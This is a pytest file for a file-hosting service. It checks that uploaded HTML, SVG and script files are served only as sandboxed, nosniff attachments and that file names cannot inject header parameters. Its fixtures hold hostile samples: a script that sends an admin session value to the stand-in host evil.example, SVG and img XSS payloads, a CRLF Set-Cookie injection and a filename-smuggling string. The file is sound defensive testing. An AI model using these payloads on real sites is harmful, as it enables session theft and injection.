"""Issue 13 item 8: user content never runs on tau's origin.

An uploaded ``evil.html`` / ``evil.svg`` is fetched the three ways a browser can reach it (DAV
GET, ``/api/files/{id}?access_token=``, a public share link): every answer must be an attachment,
``nosniff``, sandboxed by CSP, and never ``text/html`` or ``image/svg+xml``. Safe raster images
stay inline with their exact type. A hostile folder name cannot change the ZIP's saved name.
"""

from __future__ import annotations

import email.message
import email.utils
import json
import re
from typing import Any
from urllib.parse import quote, unquote

import pytest

from tau.http.disposition import content_disposition
from tests.support.http import HttpResponse

ALICE = "alice@example.test"
JSON = {"Content-Type": "application/json"}
SANDBOX = "default-src 'none'; sandbox"
EVIL_HTML = b"<!doctype html><script>fetch('//evil.example/?'+sessionStorage.tau_admin)</script>"
EVIL_SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
            b"<script>alert(1)</script></svg>")
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
       b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
HOSTILE = "x\"; filename*=UTF-8''a.exe; y=\""


_TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"
_PARAM = re.compile(rf'\s*;\s*({_TOKEN})\s*=\s*({_TOKEN}|"(?:[^"\\]|\\.)*")')


def parse_disposition(value: str) -> tuple[str, str | None, list[str]]:
    """RFC 6266 as a browser applies it: (type, file name, parameter names); ``filename*``
    (RFC 8187) wins over ``filename``; anything not matching the grammar fails the test."""
    kind = re.match(rf"\s*({_TOKEN})", value)
    assert kind, value
    params: list[tuple[str, str]] = []
    rest = value[kind.end():]
    while rest.strip():
        m = _PARAM.match(rest)
        assert m, f"not RFC 6266 at {rest!r}"
        raw = m.group(2)
        params.append((m.group(1).lower(), re.sub(r"\\(.)", r"\1", raw[1:-1]) if raw.startswith('"') else raw))
        rest = rest[m.end():]
    names = [k for k, _ in params]
    assert len(names) == len(set(names)), f"duplicate parameters in {value!r}"
    found = dict(params)
    name = found.get("filename")
    if "filename*" in found:
        charset, _, encoded = found["filename*"].partition("'")
        assert charset.upper() == "UTF-8" and "'" in encoded, found
        name = unquote(encoded.partition("'")[2], errors="strict")
    return kind.group(1).lower(), name, names


def disposition(response: HttpResponse) -> tuple[str, str | None, list[str]]:
    raw = response.header("content-disposition")
    assert raw, response.headers
    return parse_disposition(raw)


def assert_attachment(response: HttpResponse, name: str) -> None:
    assert response.status in (200, 206), (response.status, response.body[:300])
    kind, filename, _ = disposition(response)
    assert kind == "attachment", response.headers
    assert filename == name, response.headers
    assert response.header("x-content-type-options") == "nosniff", response.headers
    assert response.header("content-security-policy") == SANDBOX, response.headers
    ctype = (response.header("content-type") or "").lower()
    assert not any(bad in ctype for bad in ("html", "svg", "xml", "javascript")), ctype


def share_link(cloud: Any, file_id: str) -> str:
    r = cloud.api("POST", "/api/shares", json.dumps({"file_id": file_id}).encode(), headers=JSON)
    assert r.status == 201, r.body
    return f"/s/{r.json()['token']}"


def file_id(cloud: Any, path: str) -> str:
    r = cloud.api("GET", f"/api/files?path={quote(path)}")
    assert r.status == 200, r.body
    return str(r.json()["items"][0]["id"])


def every_way(cloud: Any, path: str) -> list[tuple[str, HttpResponse]]:
    """The file at ``path`` fetched by DAV GET, DAV HEAD, a DAV range, REST ?access_token= and a share link."""
    fid = file_id(cloud, path)
    dav = f"/dav/files/{ALICE}{quote(path)}"
    link = share_link(cloud, fid)
    return [("dav", cloud.dav("GET", dav)), ("dav-head", cloud.dav("HEAD", dav)),
            ("dav-range", cloud.dav("GET", dav, headers={"Range": "bytes=0-9"})),
            ("rest-query-token", cloud.client.get(f"/api/files/{fid}?access_token={cloud.token()}")),
            ("rest-bearer", cloud.api("GET", f"/api/files/{fid}")),
            ("share-link", cloud.client.get(link)),
            ("share-link-range", cloud.client.get(link, headers={"Range": "bytes=0-9"}))]


def test_uploaded_html_and_svg_are_attachments_everywhere(cloud: Any) -> None:
    # DAV PUT, declared as what it is
    assert cloud.dav("PUT", "evil.html", EVIL_HTML, headers={"Content-Type": "text/html"}).status == 201
    # REST raw upload declared as SVG, and a multipart-free one whose type is guessed from the name
    assert cloud.api("POST", "/api/files?path=/evil.svg", EVIL_SVG,
                     headers={"Content-Type": "image/svg+xml"}).status == 201
    assert cloud.api("POST", "/api/files?path=/guessed.xhtml", EVIL_HTML).status == 201
    # a type that would run as script if some page of this origin included it
    assert cloud.api("POST", "/api/files?path=/evil.js", b"alert(1)",
                     headers={"Content-Type": "text/javascript"}).status == 201
    for name in ("evil.html", "evil.svg", "guessed.xhtml", "evil.js"):
        for way, response in every_way(cloud, "/" + name):
            assert_attachment(response, name)
            if way in ("dav", "rest-query-token", "rest-bearer", "share-link"):
                assert response.body in (EVIL_HTML, EVIL_SVG, b"alert(1)"), way  # served, but inert
            assert response.header("content-type") == "application/octet-stream", (name, way, response.headers)


def test_raster_image_pdf_and_text_stay_inline_with_their_exact_type(cloud: Any) -> None:
    assert cloud.dav("PUT", "dot.png", PNG, headers={"Content-Type": "image/png"}).status == 201
    assert cloud.api("POST", "/api/files?path=/notes.txt", "grüße".encode(),
                     headers={"Content-Type": "text/plain; charset=utf-8; x=<html>"}).status == 201
    assert cloud.api("POST", "/api/files?path=/doc.pdf", b"%PDF-1.4\n%%EOF\n").status == 201
    expected = {"dot.png": "image/png", "notes.txt": "text/plain; charset=utf-8", "doc.pdf": "application/pdf"}
    for name, ctype in expected.items():
        for way, response in every_way(cloud, "/" + name):
            assert response.status in (200, 206), (way, response.status)
            kind, filename, _ = disposition(response)
            assert (kind, filename) == ("inline", name), (way, response.headers)
            assert response.header("content-type") == ctype, (way, response.headers)
            assert response.header("x-content-type-options") == "nosniff"
            assert response.header("content-security-policy") == SANDBOX


def test_html_renamed_png_or_declared_png_is_still_sent_as_png_not_sniffed(cloud: Any) -> None:
    """HTML bytes declared image/png are sent as image/png + nosniff: a browser shows a broken image."""
    assert cloud.dav("PUT", "fake.png", EVIL_HTML, headers={"Content-Type": "image/png"}).status == 201
    for way, response in every_way(cloud, "/fake.png"):
        assert response.header("content-type") == "image/png", way
        assert response.header("x-content-type-options") == "nosniff", way
        assert response.header("content-security-policy") == SANDBOX, way


def test_hostile_folder_name_cannot_change_the_zip_name(cloud: Any) -> None:
    r = cloud.api("POST", f"/api/files?path={quote('/' + HOSTILE)}&type=folder")
    assert r.status == 201, r.body
    assert cloud.api("POST", f"/api/files?path={quote('/' + HOSTILE + '/a.txt')}", b"inside").status == 201
    link = share_link(cloud, str(r.json()["id"]))
    response = cloud.client.get(link + "?download=zip")
    assert response.status == 200 and response.body[:2] == b"PK"
    kind, filename, names = disposition(response)
    assert kind == "attachment" and filename == HOSTILE + ".zip", response.header("content-disposition")
    assert names == ["filename", "filename*"], names  # no parameter smuggled in
    # Python's RFC 2231 reader (mail clients) sees the same two parameters and the same name
    msg = email.message.Message()
    msg["Content-Disposition"] = response.header("content-disposition")
    params = msg.get_params(header="content-disposition")
    assert len(params) == 3 and email.utils.collapse_rfc2231_value(params[-1][1]) == HOSTILE + ".zip", params
    assert not filename.endswith(".exe")
    assert response.header("content-type") == "application/zip"
    assert response.header("x-content-type-options") == "nosniff"
    assert response.header("content-security-policy") == SANDBOX
    # the quoted ASCII fallback alone (agents without RFC 8187) holds no quote, backslash or ';'
    fallback = re.search(r'filename="([^"]*)"', response.header("content-disposition") or "")
    assert fallback and fallback.group(1) == "x__ filename_=UTF-8''a.exe_ y=_.zip"


@pytest.mark.parametrize("name", ["report.pdf", "naïve café.txt", "日本語.png", 'a"b\\c;d.txt', "line\r\nbreak.txt",
                                  "dir/evil.html", "100%.txt", HOSTILE])
def test_disposition_round_trips_through_a_browser_style_parser(name: str) -> None:
    value = content_disposition(name)
    assert all(0x20 <= ord(c) < 0x7F for c in value), value  # header-safe
    kind, filename, names = parse_disposition(value)
    expected = name.replace("\r", "_").replace("\n", "_").replace("/", "_").replace("\\", "_")
    assert (kind, filename, names) == ("attachment", expected, ["filename", "filename*"])
    assert parse_disposition(content_disposition(name, inline=True))[0] == "inline"


def test_dav_folder_index_is_a_strict_csp_page_without_script(cloud: Any) -> None:
    assert cloud.dav("MKCOL", quote("<img src=x onerror=alert(1)>")).status == 201
    r = cloud.dav("GET", f"/dav/files/{ALICE}/")
    assert r.status == 200 and r.header("content-type").startswith("text/html")
    assert b"<img" not in r.body and b"&lt;img" in r.body
    csp = r.header("content-security-policy") or ""
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "base-uri 'none'" in csp
    assert r.header("referrer-policy") == "no-referrer" and r.header("x-content-type-options") == "nosniff"


def test_calendar_objects_are_served_as_text_calendar_attachments(cloud: Any) -> None:
    """Every DAV GET goes through the same helper; .ics keeps text/calendar (clients read the type)."""
    from tau.http.usercontent import user_content_headers

    headers = user_content_headers("text/calendar; charset=utf-8; component=vevent", "a.ics")
    # only the bare type and an allow-listed charset are ever sent (never the declared string)
    assert headers["Content-Type"] == "text/calendar; charset=utf-8"
    assert headers["Content-Disposition"].startswith("attachment;")
    assert user_content_headers("text/html; charset=utf-8", "a.html")["Content-Type"] == "application/octet-stream"
    assert user_content_headers("application/vnd.foo+xml", "a")["Content-Type"] == "application/octet-stream"
    assert user_content_headers("text/plain; charset=utf-7", "a")["Content-Type"] == "text/plain"
    assert user_content_headers("image/png\r\nSet-Cookie: x=1", "a")["Content-Type"] == "application/octet-stream"


def test_session_cookie_never_authenticates_dav_or_files(cloud: Any) -> None:
    """The admin page's cookie is for opted-in routes only: DAV and /api/files ignore it."""
    r = cloud.client.post_json("/api/session", {"username": ALICE, "password": "secret-Pa55"})
    assert r.status == 200, r.body
    cookie = "; ".join(v.split(";")[0] for k, v in r.raw_headers if k.lower() == "set-cookie")
    assert cloud.client.get("/api/me", headers={"Cookie": cookie}).status == 200  # opted in
    for method, path in (("GET", f"/dav/files/{ALICE}/"), ("PROPFIND", f"/dav/files/{ALICE}/"),
                         ("GET", "/api/files"), ("PUT", f"/dav/files/{ALICE}/x.txt")):
        response = cloud.client.request(method, path, b"x" if method == "PUT" else b"", headers={"Cookie": cookie})
        assert response.status == 401, (method, path, response.status)
